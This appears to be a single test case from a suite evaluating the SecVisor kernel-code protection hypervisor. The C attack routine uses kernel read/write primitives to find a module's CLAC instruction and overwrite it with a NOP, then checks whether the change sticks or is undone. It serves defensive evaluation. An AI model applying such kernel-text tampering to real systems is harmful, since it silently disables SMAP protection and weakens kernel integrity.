// Row 13. A legal but weaker variant: CLAC replaced by the NOP that stands there on processors without SMAP.
// Source: text_poke sites as data of the attacker's choosing; the patching interfaces trust their tables.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <stdlib.h>
#include <string.h>

// Where a pattern is in a function; ff in the mask means that the byte counts.
static u64 find(u64 function, const u8 *pattern, const u8 *mask, size_t length)
{
	u8 code[256];

	kread(function, code, sizeof(code));
	for (size_t at = 0; at + length <= sizeof(code); at++) {
		size_t i = 0;

		while (i < length && (code[at + i] & mask[i]) == (pattern[i] & mask[i]))
			i++;
		if (i == length)
			return function + at;
	}
	failed("no such site");
}

ATTACK("weaker-clac")
{
	char text[32];

	insert_module("/modules/target.ko");

	read_file("/sys/module/target/parameters/clac", text, sizeof(text));
	if (strcmp(text, "0\n"))
		failed("the module is not as it was: %s", text);
	u64 at = find(symbol("target_clac"), (const u8 *)"\x0f\x01\xca", (const u8 *)"\xff\xff\xff", 3);
	// What Linux 6.1 has there before it patches.
	kwrite(at, "\x0f\x1f\x00", 3);
	read_file("/sys/module/target/parameters/clac", text, sizeof(text));
	if (!strcmp(text, "1\n"))
		succeeded("CLAC made a NOP: it reads 1 instead of 0");
	if (!strcmp(text, "0\n"))
		restored("CLAC made a NOP: it still reads 0");
	failed("it reads %s", text);
}
